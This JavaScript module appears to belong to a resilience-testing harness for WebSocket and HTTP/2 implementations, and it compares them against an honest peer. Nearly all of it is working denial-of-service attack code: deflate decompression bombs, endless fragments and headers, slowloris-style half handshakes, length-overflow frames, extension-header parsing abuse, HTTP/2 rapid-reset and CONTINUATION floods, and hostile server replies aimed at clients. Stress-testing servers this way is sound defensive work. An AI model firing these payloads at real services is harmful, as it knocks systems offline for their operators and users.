// The attacks. Each sends bytes that are made in advance, so that it costs the attacker as little as possible.

import { BINARY, bomb, CLOSE, frame, header, PING, request, TEXT, times } from "./frames.js";
import { connectRequest, frame as frame2, openSession, reset } from "./http2.js";
import { dial, open, repeat, send, sleep } from "./wire.js";

const MIB = 1048576;
const NONE = Buffer.alloc(0);

/**
 * The sockets of an attack after their handshakes: either connections to a server, or those that victims have opened.
 */
async function sockets({ port, connections, lines, sockets: given }) {
  return given ?? (await open(port, connections, lines));
}

const readAll = (all) => {
  for (const socket of all) socket.resume();
};

/** Waits until the victim has ended a socket, for a limited time. */
function ended(socket, ms) {
  if (socket.destroyed) return Promise.resolve(true);
  return Promise.race([
    new Promise((resolve) => socket.once("close", () => resolve(true))),
    sleep(ms).then(() => false),
  ]);
}

/** The honest peer for comparison: sends the same number of bytes in messages of 1 KiB, and reads the echoes. */
async function honest(context, bytes) {
  const all = await sockets(context);
  const message = frame(BINARY, Buffer.alloc(1024), { toServer: context.toServer });
  const each = Math.max(1, Math.round(bytes / all.length / message.length));
  const echo = header({ opcode: BINARY, length: 1024, toServer: !context.toServer }).length + 1024;
  await Promise.all(
    all.map(async (socket) => {
      let left = each * echo;
      const done = new Promise((resolve) => {
        socket.on("data", (chunk) => (left -= chunk.length) <= 0 && resolve());
        socket.once("close", resolve);
      });
      socket.resume();
      await repeat(socket, message, each);
      await Promise.race([done, sleep(15_000)]);
    }),
  );
}

/** A message in fragments that never ends. */
const fragments = (size, count) => async (context) => {
  const [socket] = await sockets(context);
  const { toServer, quick } = context;
  socket.resume();
  await send(socket, frame(TEXT, NONE, { fin: false, toServer }));
  await repeat(socket, frame(0, Buffer.alloc(size, 97), { fin: false, toServer }), quick ? count / 10 : count);
  await ended(socket, 500);
};

/** Sends headers that announce 100 MiB, and this many bytes of each payload. */
const announce = (bytes) => async (context) => {
  const all = await sockets(context);
  const head = header({ opcode: BINARY, length: 100 * MIB, toServer: context.toServer });
  const payload = Buffer.concat([head, Buffer.alloc(bytes)]);
  await Promise.all(all.map((socket) => send(socket, payload)));
  await sleep(500);
};

/** The payload of a large message in writes of one byte each. */
async function oneByteWrites(context) {
  const [socket] = await sockets(context);
  await send(socket, header({ opcode: BINARY, length: MIB, toServer: context.toServer }));
  const byte = Buffer.alloc(1);
  for (let i = 0; i < (context.quick ? 5000 : 50_000); i++) await send(socket, byte);
}

async function trickle(context) {
  const all = await sockets(context);
  const { toServer, quick } = context;
  const head = header({ opcode: BINARY, length: 100 * MIB, toServer });
  await Promise.all(all.map((socket) => send(socket, head)));
  const byte = Buffer.alloc(1);
  for (let i = 0; i < (quick ? 2 : 5); i++) await Promise.all(all.map((socket) => send(socket, byte)));
}

/** Pings whose Pongs are never read. */
async function pings(context) {
  const [socket] = await sockets(context);
  const sent = repeat(
    socket,
    frame(PING, Buffer.alloc(125, 97), { toServer: context.toServer }),
    context.quick ? 20_000 : 400_000,
  );
  await Promise.race([sent, sleep(5000)]);
}

/** Messages whose echoes are never read. */
async function neverRead(context) {
  const all = await sockets(context);
  const message = frame(BINARY, Buffer.alloc(65536), { toServer: context.toServer });
  const each = context.quick ? 16 : 160;
  await Promise.race([Promise.all(all.map((socket) => repeat(socket, message, each))), sleep(5000)]);
}

/** Requests of one byte. Each is answered with 64 KiB that are never read. */
async function tinyRequests(context) {
  const all = await sockets(context);
  const message = frame(TEXT, Buffer.from("a"), { toServer: true });
  await Promise.race([
    Promise.all(all.map((socket) => repeat(socket, message, context.quick ? 50 : 500))),
    sleep(3000),
  ]);
  await sleep(500);
}

/** Sockets that receive data but are never read. */
async function stalled(context) {
  await sockets(context);
  process.send({ broadcast: true });
  await sleep(context.quick ? 1500 : 4000);
}

function bombs(length, { parts = 1 } = {}) {
  return async (context) => {
    const made = bomb(length);
    const all = await sockets(context);
    const { toServer } = context;
    readAll(all);
    const size = Math.ceil(made.length / parts);
    const bytes = Array.from({ length: parts }, (_, i) =>
      frame(i === 0 ? BINARY : 0, made.subarray(i * size, (i + 1) * size), {
        fin: i === parts - 1,
        rsv: i === 0 ? 4 : 0,
        toServer,
      }),
    );
    const message = Buffer.concat(bytes);
    await Promise.all(all.map((socket) => send(socket, message)));
    await Promise.all(all.map((socket) => ended(socket, 4000)));
  };
}

/** A message that inflates to almost 16 MiB, up to which any ratio is allowed, and never ends. */
async function openBombs(context) {
  const all = await sockets(context);
  const bytes = frame(BINARY, bomb(16 * MIB - 1024), { fin: false, rsv: 4, toServer: context.toServer });
  await Promise.all(all.map((socket) => send(socket, bytes)));
  await sleep(context.quick ? 500 : 2000);
}

/** Messages of 12 MiB, one after another. */
async function bombsInARow(context) {
  const all = await sockets(context);
  const bytes = frame(BINARY, bomb(12 * MIB), { rsv: 4, toServer: context.toServer });
  await Promise.all(all.map((socket) => send(socket, times(context.quick ? 5 : 50, bytes))));
  await sleep(context.quick ? 500 : 2000);
}

/** Blocks with BFINAL set. A streaming decoder has to start again after each one. */
async function finalBlocks(context) {
  const [socket] = await sockets(context);
  // An empty block of fixed codes with BFINAL set is 03 00.
  const payload = times(context.quick ? 20_000 : 500_000, Buffer.from([3, 0]));
  socket.resume();
  await send(socket, frame(TEXT, payload, { rsv: 4, toServer: context.toServer }));
  await ended(socket, 6000);
}

/** A frame that is invalid from its first bytes, followed by its remaining bytes. */
const refused = (head) => async (context) => {
  const all = await sockets(context);
  readAll(all);
  await Promise.all(all.map((socket) => send(socket, Buffer.concat([head(context.toServer), Buffer.alloc(65536)]))));
  await Promise.all(all.map((socket) => ended(socket, 1000)));
};

/** A header with a length of 2^64 - 1 bytes. */
function overflowing(opcode) {
  return (toServer) => {
    const bytes = header({ opcode, length: 2 ** 40, toServer });
    bytes.fill(0xff, 2, 10);
    return bytes;
  };
}

/** Heads of requests that never end, with header fields or with the bytes of one field. */
const heads =
  (bytes, { count = 1, keep = 0 } = {}) =>
  async ({ port, quick }) => {
    const all = await Promise.all(Array.from({ length: quick ? Math.ceil(count / 10) : count }, () => dial(port)));
    await Promise.all(all.map((socket) => (socket.resume(), send(socket, bytes))));
    await sleep(keep);
  };

/** Complete requests that are invalid, or expensive to parse. */
const requests =
  (lines, count) =>
  async ({ port, quick }) => {
    const bytes = Buffer.from(request(lines));
    for (let i = 0; i < (quick ? Math.ceil(count / 10) : count); i++) {
      const socket = await dial(port);
      socket.resume();
      await send(socket, bytes);
      await Promise.race([new Promise((resolve) => socket.once("data", resolve)), ended(socket, 5000)]);
      socket.destroy();
    }
  };

/** More header fields than the 2,000 that Node keeps, followed by those of the handshake. */
async function manyFields({ port }) {
  const fields = Array.from({ length: 2000 }, () => "a:").join("\r\n");
  const own = request().split("\r\n");
  const bytes = Buffer.from([...own.slice(0, 2), fields, ...own.slice(2)].join("\r\n"));
  const socket = await dial(port);
  socket.resume();
  await send(socket, bytes);
  await ended(socket, 1000);
}

/** HTTP/2 sessions, and the bytes sent over each. */
const sessions =
  (count, bytesOf, { settle = 500 } = {}) =>
  async ({ port, quick }) => {
    const many = quick ? Math.max(1, Math.ceil(count / 10)) : count;
    const all = await Promise.all(Array.from({ length: many }, () => openSession(port)));
    const bytes = bytesOf(quick);
    await Promise.race([Promise.all(all.map((socket) => send(socket, bytes))), sleep(5000)]);
    await sleep(quick ? Math.min(settle, 3000) : settle);
    return { open: all.filter((socket) => !socket.destroyed).length };
  };

const streams = (count) => Array.from({ length: count }, (_, i) => 2 * i + 1);
const ofStreams = (count, make) => (quick) => Buffer.concat(streams(quick ? count / 10 : count).map(make));
const many = (count, bytes) => (quick) => times(quick ? count / 10 : count, bytes);

/** The answer of a server instead of a handshake. */
function answering(answer, ms) {
  const attack = async ({ sockets: all }) => {
    await Promise.race([Promise.all(all.map((socket) => ended(socket, ms))), sleep(ms)]);
  };
  attack.answer = (socket, accept) => {
    void answer(socket, accept);
    return true;
  };
  return attack;
}

async function pour(socket, first, bytes) {
  await send(socket, Buffer.from(first));
  const chunk = Buffer.alloc(65536, bytes);
  socket.resume();
  for (let left = 64 * MIB; left > 0; left -= chunk.length) if (!(await send(socket, chunk))) return;
}

const accepted = (accept, lines) =>
  [
    `HTTP/1.1 101 Switching Protocols`,
    "Connection: Upgrade",
    "Upgrade: websocket",
    `Sec-WebSocket-Accept: ${accept}`,
    ...lines,
    "",
    "",
  ].join("\r\n");

export const attacks = {
  honest: (context) => honest(context, context.bytes),
  emptyFragments: fragments(0, 1_000_000),
  byteFragments: fragments(1, 1_000_000),
  belowTheLimit: async (context) => {
    const all = await sockets(context);
    const bytes = Buffer.concat([
      frame(TEXT, NONE, { fin: false, toServer: context.toServer }),
      times(16_000, frame(0, Buffer.alloc(1, 97), { fin: false, toServer: context.toServer })),
    ]);
    await Promise.all(all.map((socket) => send(socket, bytes)));
    await sleep(500);
  },
  trickle,
  announce: announce(61440),
  oneByteWrites,
  pings,
  neverRead,
  tinyRequests,
  stalled,
  bomb: bombs(110 * MIB),
  openBombs,
  bombsInARow,
  bombFragments: bombs(110 * MIB, { parts: 100 }),
  finalBlocks,
  hugeClose: refused((toServer) => header({ opcode: CLOSE, length: 2 ** 31, toServer })),
  overflow: refused(overflowing(BINARY)),
  halfHandshakes: heads(Buffer.from(request().slice(0, 60)), { count: 5000, keep: 3500 }),
  endlessHead: heads(Buffer.concat([Buffer.from("GET / HTTP/1.1\r\nX: "), Buffer.alloc(4 * MIB, 97)]), { count: 20 }),
  hugeHead: heads(Buffer.concat([Buffer.from("GET / HTTP/1.1\r\n"), times(MIB, Buffer.from("a: b\r\n"))]), {
    count: 20,
  }),
  manyFields,
  subprotocols: requests([`Sec-WebSocket-Protocol: a${" ".repeat(15_000)}b`], 10),
  extensions: requests([`Sec-WebSocket-Extensions: a;b="${'\\"'.repeat(7000)}`], 100),
  prototype: requests(["Sec-WebSocket-Extensions: constructor"], 10),
  manyOffers: requests(
    [`Sec-WebSocket-Extensions: ${Array.from({ length: 750 }, () => "permessage-deflate").join(",")}`],
    100,
  ),
  connects: sessions(1, ofStreams(5000, connectRequest)),
  rapidReset: sessions(
    1,
    ofStreams(5000, (stream) => Buffer.concat([connectRequest(stream), reset(stream)])),
  ),
  pings2: sessions(1, many(500_000, frame2("ping", { payload: Buffer.alloc(8) }))),
  settings2: sessions(1, many(500_000, frame2("settings"))),
  windowUpdates: sessions(1, many(500_000, frame2("windowUpdate", { payload: Buffer.from([0, 0, 0, 1]) }))),
  continuations: sessions(1, (quick) =>
    Buffer.concat([
      frame2("headers", { stream: 1, payload: Buffer.from([0x84]) }),
      times(quick ? 1000 : 10_000, frame2("continuation", { stream: 1, payload: Buffer.alloc(100, 0x84) })),
    ]),
  ),
  silentSessions: sessions(500, () => frame2("ping", { payload: Buffer.alloc(8) }), { settle: 3500 }),
  silentStreams: sessions(20, () => Buffer.concat(streams(250).map(connectRequest)), { settle: 1500 }),
  endlessAnswer: answering((socket) => pour(socket, "HTTP/1.1 101 Switching Protocols\r\nX: ", "a"), 2000),
  endlessBody: answering((socket) => pour(socket, "HTTP/1.1 400 Bad Request\r\n\r\n", "a"), 2000),
  silentServer: answering(() => {}, 3500),
  windowBits: answering(
    (socket, accept) =>
      send(
        socket,
        Buffer.from(accepted(accept, ["Sec-WebSocket-Extensions: permessage-deflate; server_max_window_bits=1000"])),
      ),
    1000,
  ),
};
